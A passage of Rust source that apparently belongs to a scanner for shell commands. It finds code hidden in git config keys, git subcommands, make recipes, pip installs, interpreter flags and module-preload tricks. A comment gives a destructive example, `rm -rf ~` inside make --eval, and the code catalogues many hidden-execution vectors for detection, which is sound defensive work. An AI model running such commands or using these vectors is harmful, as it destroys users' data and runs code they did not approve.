    let key = key.to_ascii_lowercase();
    if key.starts_with("alias.") {
        return value.strip_prefix('!').map(|v| v.to_string());
    }
    if key.starts_with("credential.") && key.ends_with(".helper") {
        // git hands the helper the credentials on stdin: read it like the credential store.
        return value
            .strip_prefix('!')
            .map(|v| format!("{{ {v}\n}} < ~/.git-credentials"));
    }
    let sub_command = key.starts_with("pager.")
        || (key.starts_with("filter.")
            && (key.ends_with(".clean") || key.ends_with(".smudge") || key.ends_with(".process")))
        || (key.starts_with("diff.") && (key.ends_with(".textconv") || key.ends_with(".command")))
        || (key.starts_with("merge.") && key.ends_with(".driver"))
        || ((key.starts_with("difftool.") || key.starts_with("mergetool."))
            && key.ends_with(".cmd"))
        || (key.starts_with("remote.")
            && (key.ends_with(".uploadpack") || key.ends_with(".receivepack")));
    // `submodule.NAME.update = !CMD`: `git submodule update` runs CMD in the submodule.
    if key.starts_with("submodule.") && key.ends_with(".update") {
        return value.strip_prefix('!').map(|v| v.to_string());
    }
    if spec.keys.iter().any(|k| k.eq_ignore_ascii_case(&key)) || sub_command {
        return Some(value.to_string());
    }
    None
}

fn git(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    // `git -c alias.p='push --force' p origin main`: aliases defined for this one call that are
    // git command lines, not shell code.
    let mut aliases: Vec<(String, &Word, String)> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        let kv = if a == "-c" {
            i += 1;
            args.get(i).map(|w| (w, w.text.as_str()))
        } else {
            a.strip_prefix("-c")
                .filter(|r| r.contains('='))
                .map(|rest| (&args[i], rest))
        };
        if let Some((w, kv)) = kv {
            if let Some((k, v)) = kv.split_once('=') {
                if let Some(code) = git_config_code(spec, k, v) {
                    push(text(part(w, &code)), Place::default());
                } else if let Some(name) = k.strip_prefix("alias.") {
                    aliases.push((name.to_string(), w, v.to_string()));
                }
            }
            i += 1;
            continue;
        }
        if super::options::git_global_takes_value(a) {
            i += 2;
            continue;
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        if let Some((_, w, value)) = aliases.iter().find(|(name, _, _)| name == a) {
            let line = super::nested::with_quoted_args(format!("git {value}"), &args[i + 1..]);
            push(text(part(w, &line)), Place::default());
            return;
        }
        if a == "config" {
            git_config_command(spec, &args[i + 1..], push);
        }
        // `git clone -c core.fsmonitor=CMD URL`: the configuration is written into the new
        // repository, and the checkout that ends the clone already runs it.
        if a == "clone" {
            let rest = &args[i + 1..];
            for (j, w) in rest.iter().enumerate() {
                let (holder, kv) = match w.text.as_str() {
                    "-c" | "--config" => match rest.get(j + 1) {
                        Some(v) => (v, v.text.as_str()),
                        None => continue,
                    },
                    t => match t.strip_prefix("--config=") {
                        Some(kv) => (w, kv),
                        None => continue,
                    },
                };
                if let Some(code) = kv
                    .split_once('=')
                    .and_then(|(k, v)| git_config_code(spec, k, v))
                {
                    push(text(part(holder, &code)), Place::default());
                }
            }
        }
        git_subcommand_code(a, &args[i + 1..], push);
        return;
    }
}

/// `PROMPT_COMMAND="history -a; $PROMPT_COMMAND"`, `"${PROMPT_COMMAND:+$PROMPT_COMMAND; }x"`: the
/// variable's own earlier value is what already ran before this line; only what is added is new.
fn without_own_value(code: &str, name: &str) -> String {
    let mut out = code.to_string();
    // `${NAME:+…}` and `${NAME+…}`: text added only when the old value is set.
    for open in [format!("${{{name}:+"), format!("${{{name}+")] {
        while let Some(start) = out.find(&open) {
            let Some(len) = out[start..].find('}') else {
                break;
            };
            out.replace_range(start..start + len + 1, ";");
        }
    }
    for spelled in [format!("${{{name}}}"), format!("${name}")] {
        let mut from = 0;
        while let Some(at) = out[from..].find(&spelled).map(|i| i + from) {
            let end = at + spelled.len();
            let next = out[end..].chars().next();
            if next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                from = end;
                continue;
            }
            out.replace_range(at..end, "");
            from = at;
        }
    }
    out.trim_matches(|c: char| c == ';' || c.is_whitespace())
        .to_string()
}

/// Configuration passed through the environment: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager
/// GIT_CONFIG_VALUE_0=…` and `GIT_CONFIG_PARAMETERS="'core.pager'='…'"`.
fn git_env_config(spec: &SinkSpec, assignments: &[(String, Word)], push: &mut Push) {
    if !assignments.iter().any(|(n, _)| n.starts_with("GIT_CONFIG")) {
        return;
    }
    let get = |k: &str| assignments.iter().find(|(n, _)| n == k).map(|(_, v)| v);
    for n in 0..16 {
        let (Some(k), Some(v)) = (
            get(&format!("GIT_CONFIG_KEY_{n}")),
            get(&format!("GIT_CONFIG_VALUE_{n}")),
        ) else {
            continue;
        };
        if let Some(code) = git_config_code(spec, &k.text, &v.text) {
            push(text(part(v, &code)), Place::default());
        }
    }
    if let Some(params) = get("GIT_CONFIG_PARAMETERS") {
        for pair in params.text.split("' '") {
            let pair = pair.trim_matches('\'');
            // Newer git writes `'key'='value'`; the older `'key=value'` is still read.
            if let Some((k, v)) = pair.split_once("'='").or_else(|| pair.split_once('=')) {
                if let Some(code) = git_config_code(spec, k, v) {
                    push(text(part(params, &code)), Place::default());
                }
            }
        }
    }
}

/// Subcommands that run a command they are given: `submodule foreach CMD`, `rebase -x CMD`,
/// `bisect run CMD…`, `filter-branch --tree-filter CMD`, `difftool -x CMD`.
fn git_subcommand_code(sub: &str, args: &[Word], push: &mut Push) {
    let option = |names: &[&str], push: &mut Push| {
        for (i, a) in args.iter().enumerate() {
            for n in names {
                if a.text == *n {
                    if let Some(v) = args.get(i + 1) {
                        push(text(v.clone()), Place::default());
                    }
                } else if let Some(v) = a.text.strip_prefix(&format!("{n}=")) {
                    push(text(part(a, v)), Place::default());
                }
            }
        }
    };
    match sub {
        "submodule" => {
            if let Some(p) = args.iter().position(|a| a.text == "foreach") {
                let rest: Vec<Word> = args[p + 1..]
                    .iter()
                    .filter(|a| !a.text.starts_with("--"))
                    .cloned()
                    .collect();
                if !rest.is_empty() {
                    push(text(super::nested::join_words(&rest)), Place::default());
                }
            }
        }
        "rebase" => option(&["-x", "--exec"], push),
        "bisect" if args.first().is_some_and(|a| a.text == "run") && args.len() > 1 => {
            push(Code::Argv(args[1..].to_vec()), Place::default());
        }
        "filter-branch" => option(
            &[
                "--tree-filter",
                "--index-filter",
                "--msg-filter",
                "--env-filter",
                "--commit-filter",
                "--parent-filter",
                "--tag-name-filter",
            ],
            push,
        ),
        "difftool" | "mergetool" => option(&["-x", "--extcmd"], push),
        _ => {}
    }
}

/// `git config [--global] KEY VALUE` / `git config set KEY VALUE`.
fn git_config_command(spec: &SinkSpec, args: &[Word], push: &mut Push) {
    if let Some((key, value)) = git_config_setting(args) {
        if let Some(code) = git_config_code(spec, &key.text, &value.text) {
            push(text(part(value, &code)), Place::default());
        }
    }
}

/// The key and value that `git config ARGS` sets (`args` follow `config`): `git config
/// --global alias.p 'push -f'`, `git config set core.pager less`. None when it reads, lists or
/// unsets.
pub(crate) fn git_config_setting(args: &[Word]) -> Option<(&Word, &Word)> {
    let mut pos: Vec<&Word> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if matches!(
            a,
            "-f" | "--file" | "--blob" | "--type" | "--default" | "--comment"
        ) {
            i += 2;
            continue;
        }
        if matches!(
            a,
            "--get" | "--get-all" | "--unset" | "--unset-all" | "-l" | "--list" | "--get-regexp"
        ) {
            return None;
        }
        if !a.starts_with('-') {
            pos.push(&args[i]);
        }
        i += 1;
    }
    if pos.first().is_some_and(|p| p.text == "set") {
        pos.remove(0);
    }
    match pos[..] {
        [key, value, ..] => Some((key, value)),
        _ => None,
    }
}

/// `pip install .`, `pip install -e ./pkg`, `pip wheel DIR`: the project's `setup.py` runs (a
/// `setup.py` written earlier in the input is analysed as that code).
fn project_install(args: &[Word], push: &mut Push) {
    let Some(verb) = args.iter().position(|a| !a.text.starts_with('-')) else {
        return;
    };
    if !matches!(args[verb].text.as_str(), "install" | "wheel" | "download") {
        return;
    }
    for a in &args[verb + 1..] {
        let t = a.text.as_str();
        let local = t == "." || t.starts_with("./") || t.starts_with('/') || t == "..";
        if !local || t.ends_with(".whl") || t.ends_with(".txt") || t.contains(".tar") {
            continue;
        }
        let file = Word {
            text: format!("{}/setup.py", t.trim_end_matches('/')),
            ..a.clone()
        };
        push(
            Code::File(file, Format::Code(Lang::Python)),
            Place::default(),
        );
    }
}

fn make(args: &[Word], input: Option<&Word>, push: &mut Push) {
    // Without `-f`, make reads `GNUmakefile`, `makefile` or `Makefile` (in `-C DIR`): recipes
    // in one written earlier in the input run.
    let named = args.iter().any(|a| {
        matches!(a.text.as_str(), "-f" | "--file" | "--makefile")
            || a.text.starts_with("--file=")
            || a.text.starts_with("--makefile=")
            || (a.text.starts_with("-f") && !a.text.starts_with("--"))
    });
    if !named {
        let dir = args
            .windows(2)
            .find(|w| w[0].text == "-C" || w[0].text == "--directory")
            .map(|w| format!("{}/", w[1].text.trim_end_matches('/')));
        let at = args.first().map_or((0, 0), |a| a.span);
        for name in ["GNUmakefile", "makefile", "Makefile"] {
            let file = Word {
                text: format!("{}{name}", dir.as_deref().unwrap_or("")),
                span: at,
                ..Word::default()
            };
            push(Code::File(file, Format::Make), Place::default());
        }
    }
    for (i, a) in args.iter().enumerate() {
        // `make --eval='x: ; rm -rf ~'` / `make --eval 'x: ; …'` / `make -E …`: makefile text on the
        // command line.
        let eval = a
            .text
            .strip_prefix("--eval=")
            .map(|t| (a, t.to_string()))
            .or_else(|| {
                // GNU make 4.4 spells it `-E` too.
                (a.text == "--eval" || a.text == "-E")
                    .then(|| args.get(i + 1).map(|v| (v, v.text.clone())))
                    .flatten()
            });
        if let Some((w, text_)) = eval {
            push(text(part(w, &makefile_recipes(&text_))), Place::default());
        }
    }
    for (i, a) in args.iter().enumerate() {
        let file = if a.text == "-f" || a.text == "--file" || a.text == "--makefile" {
            args.get(i + 1)
        } else {
            None
        };
        // tree-sitter-bash folds a `-` right before a heredoc operator into the redirection, so
        // `make -f - <<EOF` arrives as `make -f` with stdin.
        let stdin_dash = file.is_none()
            && i + 1 == args.len()
            && input.is_some()
            && matches!(a.text.as_str(), "-f" | "--file" | "--makefile");
        let Some(f) = file.or(stdin_dash.then_some(a)) else {
            continue;
        };
        if f.text == "-" || f.text == "/dev/stdin" || stdin_dash {
            match input {
                Some(w) => push(text(part(w, &makefile_recipes(&w.text))), Place::default()),
                None => push(Code::Input, Place::default()),
            }
        } else {
            push(Code::File(f.clone(), Format::Make), Place::default());
        }
    }
}

/// Variables a makefile defines (`NAME = v`, `:=`, `::=`, `?=`, `+=`, with `export` or
/// `override` in front), in definition order (a later definition wins; `+=` appends).
fn make_variables(makefile: &str) -> HashMap<&str, String> {
    let mut vars: HashMap<&str, String> = HashMap::new();
    for line in makefile.lines() {
        if line.starts_with('\t') {
            continue;
        }
        let Some(eq) = line.find('=') else { continue };
        let head = line[..eq].trim_end_matches([':', '?', '+', '!']);
        let head = head
            .trim()
            .trim_start_matches("export ")
            .trim_start_matches("override ")
            .trim();
        let name_ok = head
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
            && head.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        if !name_ok || line[..eq].contains(';') {
            continue;
        }
        let value = line[eq + 1..].trim();
        let op = &line[..eq];
        if op.ends_with('+') {
            let v = vars.entry(head).or_default();
            if !v.is_empty() {
                v.push(' ');
            }
            v.push_str(value);
        } else if op.ends_with('?') {
            vars.entry(head).or_insert_with(|| value.to_string());
        } else {
            vars.insert(head, value.to_string());
        }
    }
    vars
}

/// A recipe line as the shell sees it: `$$` is a `$`, and make's own references are expanded by
/// make first. A variable the makefile defines is replaced by its value; `$(MAKE)` is `make`; any
/// other plain name (`$(HOME)`, `$(DESTDIR)`) comes from the environment, so it becomes the shell
/// variable of that name (unset, it is empty, as in make); automatic variables (`$@`, `$<`) and
/// functions (`$(wildcard …)`) are unknown here and become a neutral word.
fn make_to_shell(recipe: &str, vars: &HashMap<&str, String>, depth: u8) -> String {
    let b = recipe.as_bytes();
    let mut out = String::with_capacity(recipe.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'$' {
            match b.get(i + 1) {
                Some(b'$') => {
                    out.push('$');
                    i += 2;
                    continue;
                }
                Some(&open @ (b'(' | b'{')) => {
                    let close = if open == b'(' { b')' } else { b'}' };
                    let mut level = 0;
                    let mut j = i + 1;
                    while j < b.len() {
                        if b[j] == open {
                            level += 1;
                        } else if b[j] == close {
                            level -= 1;
                            if level == 0 {
                                break;
                            }
                        }
                        j += 1;
                    }
                    let name = recipe.get(i + 2..j.min(b.len())).unwrap_or("");
                    out.push_str(&make_reference(name, vars, depth));
                    i = j + 1;
                    continue;
                }
                Some(c) if b"@*<^?%+|".contains(c) || c.is_ascii_alphabetic() => {
                    out.push_str("MAKEVAR");
                    i += 2;
                    continue;
                }
                _ => {}
            }
        }
        let ch = recipe[i..].chars().next().unwrap_or(' ');
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// What `$(name)` stands for in a recipe (see [`make_to_shell`]).
fn make_reference(name: &str, vars: &HashMap<&str, String>, depth: u8) -> String {
    let plain = !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !name.as_bytes()[0].is_ascii_digit();
    if !plain {
        return "MAKEVAR".into();
    }
    if let Some(v) = vars.get(name) {
        // Values may refer to other variables; a definition that refers to itself stops here.
        return if depth < 4 {
            make_to_shell(v, vars, depth + 1)
        } else {
            "MAKEVAR".into()
        };
    }
    match name {
        "MAKE" => "make".into(),
        "CURDIR" => "${PWD}".into(),
        _ => format!("${{{name}}}"),
    }
}

/// The shell lines of a makefile's recipes (tab-indented lines, without `@`, `-`, `+` prefixes),
/// plus `$(shell …)` calls.
pub fn makefile_recipes(makefile: &str) -> String {
    makefile_recipes_for(makefile, &[])
}

/// The goals a `make` command line asks for (`make build test`), without options, their values
/// and variable assignments.
pub fn make_goals(args: &[Word]) -> Vec<String> {
    const VALUED: &[&str] = &[
        "-f",
        "--file",
        "--makefile",
        "-C",
        "--directory",
        "-I",
        "-o",
        "-W",
        "-l",
        "-j",
    ];
    let mut goals = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let t = args[i].text.as_str();
        if VALUED.contains(&t) {
            // `-j` and `-l` take their number only when one follows.
            let numeric = matches!(t, "-j" | "-l");
            if !numeric
                || args
                    .get(i + 1)
                    .is_some_and(|a| a.text.parse::<u32>().is_ok())
            {
                i += 1;
            }
        } else if !t.starts_with('-') && !t.contains('=') {
            goals.push(t.to_string());
        }
        i += 1;
    }
    goals
}

/// The shell code of the recipes `make GOALS…` runs: the goals' rules and, transitively, their
/// prerequisites' (and goals named by `$(MAKE) X` inside them); with no goal, the default one.
/// Lines make evaluates while reading (`$(shell …)`) always count. A makefile this reading
/// cannot follow (includes, `eval`, `define`, pattern rules in the way) yields every recipe.
pub fn makefile_recipes_for(makefile: &str, goals: &[String]) -> String {
    let Some(wanted) = reachable_rules(makefile, goals) else {
        return recipes_where(makefile, |_| true);
    };
    recipes_where(makefile, |rule| wanted.contains(&rule))
}

/// Index (in order of appearance) of the rule each line belongs to, `None` outside rules.
fn rule_of_lines(makefile: &str) -> Vec<Option<usize>> {
    let mut current = None;
    let mut count = 0;
    makefile
        .lines()
        .map(|line| {
            if line.starts_with('\t') {
                return current;
            }
            if rule_head(line).is_some() {
                current = Some(count);
                count += 1;
                return current;
            }
            if !line.trim().is_empty() && !line.trim_start().starts_with('#') {
                current = None;
            }
            None
        })
        .collect()
}

/// `targets: prerequisites` of a rule line (not a variable assignment).
fn rule_head(line: &str) -> Option<(Vec<&str>, Vec<&str>)> {
    if line.starts_with([' ', '\t', '#']) {
        return None;
    }
    let head = line.split(';').next().unwrap_or(line);
    let colon = head.find(':')?;
    if head[..colon].contains('=')
        || head[colon..].starts_with(":=")
        || head[colon..].starts_with("::=")
    {
        return None;
    }
    let targets = head[..colon].split_whitespace().collect();
    let prereqs = head[colon..]
        .trim_start_matches(':')
        .split('|')
        .flat_map(str::split_whitespace)
        .collect();
    Some((targets, prereqs))
}

fn reachable_rules(makefile: &str, goals: &[String]) -> Option<std::collections::HashSet<usize>> {
    let mut rules: Vec<(Vec<&str>, Vec<&str>)> = Vec::new();
    let mut default_goal: Option<String> = None;
    for line in makefile.lines() {
        let t = line.trim_start();
        if ["include", "-include", "sinclude", "define", "$(eval"]
            .iter()
            .any(|k| t.starts_with(k))
        {
            return None;
        }
        if let Some(v) = t.strip_prefix(".DEFAULT_GOAL") {
            default_goal = v
                .trim_start_matches([' ', ':', '=', '?'])
                .split_whitespace()
                .next()
                .map(str::to_string);
        }
        if let Some(head) = rule_head(line) {
            rules.push(head);
        }
    }
    if rules
        .iter()
        .flat_map(|r| &r.0)
        .any(|t| t.contains('%') || t.contains('$'))
    {
        return None;
    }
    let recipes = rule_recipes(makefile, rules.len());
    let mut todo: Vec<String> = if goals.is_empty() {
        let first = default_goal.or_else(|| {
            rules
                .iter()
                .flat_map(|r| &r.0)
                .find(|t| !t.starts_with('.'))
                .map(|t| t.to_string())
        });
        first.into_iter().collect()
    } else {
        goals.to_vec()
    };
    let mut seen: std::collections::HashSet<String> = Default::default();
    let mut wanted = std::collections::HashSet::new();
    while let Some(goal) = todo.pop() {
        if !seen.insert(goal.clone()) || seen.len() > 10_000 {
            continue;
        }
        for (k, (targets, prereqs)) in rules.iter().enumerate() {
            if targets.iter().any(|t| *t == goal) {
                wanted.insert(k);
                todo.extend(prereqs.iter().map(|p| p.to_string()));
                // `$(MAKE) other` / `make other` in the recipe asks for more goals.
                for line in recipes[k].lines() {
                    let words: Vec<&str> = line.split_whitespace().collect();
                    if let Some(at) = words
                        .iter()
                        .position(|w| matches!(*w, "$(MAKE)" | "${MAKE}" | "make" | "$(MAKE)\""))
                    {
                        let rest: Vec<Word> = words[at + 1..]
                            .iter()
                            .take_while(|w| !matches!(**w, "&&" | "||" | ";" | "|"))
                            .map(|w| Word::literal(*w, (0, 0)))
                            .collect();
                        todo.extend(make_goals(&rest));
                    }
                }
            }
        }
    }
    Some(wanted)
}

/// The raw recipe text of each rule.
fn rule_recipes(makefile: &str, rules: usize) -> Vec<String> {
    let mut out = vec![String::new(); rules];
    for (line, rule) in makefile.lines().zip(rule_of_lines(makefile)) {
        if let Some(k) = rule {
            if let Some(recipe) = line.strip_prefix('\t') {
                out[k].push_str(recipe);
                out[k].push('\n');
            } else if let Some((_, inline)) = line.split_once(';') {
                out[k].push_str(inline);
                out[k].push('\n');
            }
        }
    }
    out
}

fn recipes_where(makefile: &str, keep: impl Fn(usize) -> bool) -> String {
    let vars = make_variables(makefile);
    let owners = rule_of_lines(makefile);
    let mut out = String::new();
    for (line, owner) in makefile.lines().zip(owners) {
        let kept = owner.is_none_or(&keep);
        if let Some(recipe) = line.strip_prefix('\t').filter(|_| kept) {
            out.push_str(&make_to_shell(
                recipe.trim_start_matches(['@', '-', '+', ' ']),
                &vars,
                0,
            ));
            out.push('\n');
        } else if let Some((head, recipe)) = line.split_once(';').filter(|_| kept) {
            // `target: prerequisites ; recipe`
            if head.contains(':') && !head.contains('=') {
                out.push_str(&make_to_shell(
                    recipe.trim_start_matches(['@', '-', '+', ' ']),
                    &vars,
                    0,
                ));
                out.push('\n');
            }
        }
        let mut rest = line;
        while let Some(p) = rest.find("$(shell ") {
            let after = &rest[p + 8..];
            let end = after.find(')').unwrap_or(after.len());
            out.push_str(&after[..end]);
            out.push('\n');
            rest = &after[end..];
        }
    }
    out
}

/// The loop Perl's and Ruby's `-n` / `-p` switches put around the code (opening and closing
/// text), when one of the command's switch bundles holds either letter.
fn line_loop_switch(lang: Lang, args: &[Word]) -> Option<(&'static str, &'static str)> {
    // Letters whose value follows them in the same word (or the code, for `-e`).
    let value_letters = match lang {
        Lang::Perl => "eEMmIixFCdD0",
        Lang::Ruby => "erICEFixKWT0",
        _ => return None,
    };
    let mut print = false;
    let mut found = false;
    for a in args.iter().map(|a| a.text.as_str()) {
        if a == "--" || !a.starts_with('-') || a.starts_with("--") {
            continue;
        }
        for c in a[1..].chars() {
            if value_letters.contains(c) {
                break;
            }
            if c == 'n' || c == 'p' {
                found = true;
                print |= c == 'p';
            }
        }
    }
    match (found, lang, print) {
        (false, _, _) => None,
        (true, Lang::Perl, false) => Some(("while (<STDIN>) { ", "\n;}")),
        (true, Lang::Perl, true) => Some(("while (<STDIN>) { ", "\n;} continue { print }")),
        (true, _, _) => Some(("while gets\n", "\nend")),
    }
}

fn interp(spec: &SinkSpec, args: &[Word], input: Option<&Word>, push: &mut Push) {
    let lang = Lang::parse(spec.lang.as_deref());
    // Perl, Ruby, Lua and osascript run every `-e` in order, node the last one: each is code, and
    // the operands after them are the program's arguments. Python's first `-c` ends the options.
    let repeats = matches!(
        lang,
        Lang::Perl | Lang::Ruby | Lang::JavaScript | Lang::Lua | Lang::AppleScript
    );
    let mut seen_code = false;
    let mut seen_run = false;
    if lang == Lang::Perl {
        perl_preloads(args, push);
    }
    if matches!(lang, Lang::Python | Lang::JavaScript | Lang::Ruby) {
        module_shadows(lang, spec, args, input, push);
    }
    // `perl -ne CODE`, `ruby -pe CODE`: the code runs once per input line, with the line in `$_`.
    let line_loop = line_loop_switch(lang, args);
    let mut push = |code: Code, place: Place| match (code, line_loop) {
        (Code::Text(lang, w), Some((open, close))) => {
            let wrapped = format!("{open}{}{close}", w.text);
            push(Code::Text(lang, part(&w, &wrapped)), place)
        }
        (code, _) => push(code, place),
    };
    let push = &mut push;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        let t = a.text.as_str();
        if t == "--" || (seen_code && !t.starts_with('-')) {
            return;
        }
        // `--eval=CODE`, `-Command=CODE`.
        if let Some((flag, value)) = t.split_once('=').filter(|(f, _)| f.starts_with('-')) {
            if spec.flags.iter().any(|f| f == flag) {
                push(Code::Text(lang, part(a, value)), Place::default());
                if !repeats {
                    return;
                }
                seen_code = true;
                i += 1;
                continue;
            }
        }
        // Bundled short flags (`perl -we CODE`) are a Unix convention; PowerShell's parameters,
        // and those of Erlang, Kotlin and the other languages without an analyser here, are
        // whole words (`-NoProfile` is not `-e`, `kotlinc -script` is not `-s -c ript`).
        let ps = lang == Lang::PowerShell;
        let whole_words = ps || lang == Lang::Other;
        let is_flag = spec
            .flags
            .iter()
            .any(|f| f == t || (ps && f.eq_ignore_ascii_case(t)))
            || (t.len() > 2
                && !whole_words
                && t.starts_with('-')
                && !t.starts_with("--")
                && t[1..].chars().all(|c| c.is_ascii_alphabetic())
                && spec
                    .flags
                    .iter()
                    .any(|f| f.len() == 2 && t.ends_with(&f[1..])));
        if is_flag {
            // `deno eval -A --allow-net CODE`: a subcommand word takes its options first.
            let mut at = i + 1;
            if !t.starts_with('-') {
                while args
                    .get(at)
                    .is_some_and(|a| a.text.starts_with('-') && a.text != "-")
                {
                    at += 1;
                }
            }
            // `pwsh -Command -`: the commands come on stdin.
            if args.get(at).is_some_and(|c| c.text == "-") {
                break;
            }
            if let Some(code) = args.get(at) {
                let code = if lang == Lang::PowerShell && t.to_ascii_lowercase().starts_with("-e") {
                    match decode_utf16_base64(&code.text) {
                        Some(d) => part(code, &d),
                        None => return,
                    }
                } else {
                    code.clone()
                };
                push(Code::Text(lang, code), Place::default());
            }
            if !repeats {
                return;
            }
            seen_code = true;
            i = at + 1;
            continue;
        }
        // `python3 -cCODE`, `ruby -e'CODE'`, `perl -lne'CODE'`: the code attached to the flag,
        // after any bundled letters (code, unlike an option word such as `-eval`, holds
        // something other than letters and digits).
        if !whole_words && t.starts_with('-') && !t.starts_with("--") {
            let attached = spec.flags.iter().filter(|f| f.len() == 2).find_map(|f| {
                let letter = f.as_bytes()[1] as char;
                let body = &t[1..];
                let at = body.find(letter)?;
                let (bundle, code) = (&body[..at], &body[at + 1..]);
                let code_like = !code.is_empty()
                    && (letter != 'e' || code.chars().any(|c| !c.is_ascii_alphanumeric()));
                // Bundled letters are switches, never an option taking a value (`php -dk=v`).
                let switches = bundle.chars().all(|c| {
                    c.is_ascii_alphabetic() && !spec.value_options.contains(&format!("-{c}"))
                });
                (switches && code_like).then_some(code)
            });
            if let Some(code) = attached {
                push(Code::Text(lang, part(a, code)), Place::default());
                if !repeats {
                    return;
                }
                seen_code = true;
                i += 1;
                continue;
            }
        }
        if t == "-" {
            break;
        }
        // `-m module` runs a module, not inline code: `python3 -m job` runs `job.py` (or
        // `job/__main__.py`) from the working directory when the input wrote it there.
        if t == "-m" {
            if let Some(m) = args
                .get(i + 1)
                .filter(|m| lang == Lang::Python && !m.dynamic)
            {
                let path = m.text.replace('.', "/");
                for f in [format!("{path}.py"), format!("{path}/__main__.py")] {
                    push(
                        Code::File(part(m, &f), Format::Code(lang)),
                        Place::default(),
                    );
                }
            }
            return;
        }
        // `node --import data:text/javascript,CODE`, `node -r /dev/stdin`, `ruby -r/tmp/x.rb`:
        // code loaded first.
        if matches!(lang, Lang::JavaScript | Lang::Ruby) {
            let (opt, value, used) = match t.split_once('=') {
                Some((o, v)) if o.starts_with("--") => (o, Some(part(a, v)), 1),
                _ if t.len() > 2 && t.starts_with("-r") => ("-r", Some(part(a, &t[2..])), 1),
                _ => (t, args.get(i + 1).cloned(), 2),
            };
            let preloads = match lang {
                Lang::Ruby => opt == "-r",
                _ => matches!(
                    opt,
                    "-r" | "--require" | "--import" | "--loader" | "--experimental-loader"
                ),
            };
            if preloads {
                if let Some(code) = value.and_then(|v| preloaded_code(lang, &v, input)) {
                    push(code, Place::default());
                }
                i += used;
                continue;
            }
        }
        // Options with a value (`-X utf8`, `-W ignore`, `php -d k=v`, `node -r mod`).
        if spec
            .value_options
            .iter()
            .any(|o| o == t || (ps && o.eq_ignore_ascii_case(t)))
        {
            i += 2;
            continue;
        }
        if !t.starts_with('-') && spec.operands_are_data {
            i += 1;
            continue;
        }
        if !t.starts_with('-') {
            // Windows PowerShell reads a bare command line as `-Command`.
            let after_file = i > 0
                && (args[i - 1].text.eq_ignore_ascii_case("-file") || args[i - 1].text == "-f");
            if lang == Lang::PowerShell && !after_file && !t.to_ascii_lowercase().ends_with(".ps1")
            {
                push(Code::Text(lang, a.clone()), Place::default());
                return;
            }
            // `deno run -A x.ts`, `bun run x.ts`, `mix run -e CODE`: the script file or the
            // code follows the subcommand.
            if t == "run" && matches!(lang, Lang::JavaScript | Lang::Other) && !seen_run {
                seen_run = true;
                i += 1;
                continue;
            }
            // A script file (or a subcommand like `bun x`): its code is in that file.
            if !matches!(t, "run" | "eval" | "exec" | "x") {
                push(Code::File(a.clone(), Format::Code(lang)), Place::default());
            }
            return;
        }
        i += 1;
    }
    if let Some(w) = input.filter(|_| !spec.input_is_data && !seen_code) {
        push(Code::Text(lang, w.clone()), Place::default());
    }
}

/// The code a module preloaded into node (`lang` JavaScript) or ruby (`-r`) is: a `data:` URL's
/// text (node), the input for `/dev/stdin`, a file named by path (read when the input wrote it).
/// Package names (`dotenv/config`, `fileutils`) are not looked into.
fn preloaded_code(lang: Lang, module: &Word, input: Option<&Word>) -> Option<Code> {
    let m = module.text.as_str();
    if let Some(rest) = m.strip_prefix("data:").filter(|_| lang == Lang::JavaScript) {
        let (header, body) = rest.split_once(',')?;
        let code = if header.ends_with(";base64") {
            String::from_utf8(crate::text::base64::decode(body)?).ok()?
        } else {
            crate::text::percent::decode(body)
        };
        return Some(Code::Text(lang, part(module, &code)));
    }
    if matches!(m, "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0") {
        return Some(match input {
            Some(w) => Code::Text(lang, w.clone()),
            None => Code::File(module.clone(), Format::Code(lang)),
        });
    }
    let path = m.starts_with(['/', '~']) || m.starts_with("./") || m.starts_with("../");
    path.then(|| Code::File(module.clone(), Format::Code(lang)))
}

/// Perl modules loaded before the program (`-MName`, `-mName`, from `PERL5OPT` too) out of the
/// directories put first on the library path (`-I DIR`, `PERL5LIB`): `DIR/Name.pm` for each,
/// read when the input wrote it (`perl -I/tmp -MX -e1` runs `/tmp/X.pm`).
fn perl_preloads(args: &[Word], push: &mut Push) {
    let mut dirs: Vec<&Word> = Vec::new();
    let mut modules: Vec<(&Word, String)> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        let t = a.text.as_str();
        if t == "--" || !t.starts_with('-') {
            break;
        }
        // (The flag is `-` and one character, which need not be ASCII: `perl -é`.)
        let flag_end = t.char_indices().nth(2).map_or(t.len(), |(i, _)| i);
        let (flag, attached) = t.split_at(flag_end);
        let takes_value = matches!(flag, "-I" | "-M" | "-m" | "-e" | "-E");
        let value = if !attached.is_empty() {
            Some(a)
        } else if takes_value {
            i += 1;
            args.get(i)
        } else {
            None
        };
        match (flag, value) {
            ("-I", Some(v)) => dirs.push(v),
            ("-M" | "-m", Some(v)) => {
                let text = if attached.is_empty() {
                    &v.text
                } else {
                    attached
                };
                let name = text.trim_start_matches('-');
                let name = name.split(['=', ' ']).next().unwrap_or("");
                if !name.is_empty()
                    && name
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == ':' || c == '_')
                {
                    modules.push((v, name.replace("::", "/")));
                }
            }
            _ => {}
        }
        i += 1;
    }
    for dir in dirs {
        let d = dir
            .text
            .strip_prefix("-I")
            .unwrap_or(&dir.text)
            .trim_end_matches('/');
        for (_, m) in &modules {
            push(
                Code::File(part(dir, &format!("{d}/{m}.pm")), Format::Code(Lang::Perl)),
                Place::default(),
            );
        }
    }
}

/// Modules the code imports, found first in a directory put ahead on the search path
/// (`PYTHONPATH=/tmp/l python3 -c 'import json'` runs `/tmp/l/json.py`; `NODE_PATH`, `RUBYLIB`
/// and `ruby -I DIR` likewise): each candidate file, read when the input wrote it.
fn module_shadows(
    lang: Lang,
    spec: &SinkSpec,
    args: &[Word],
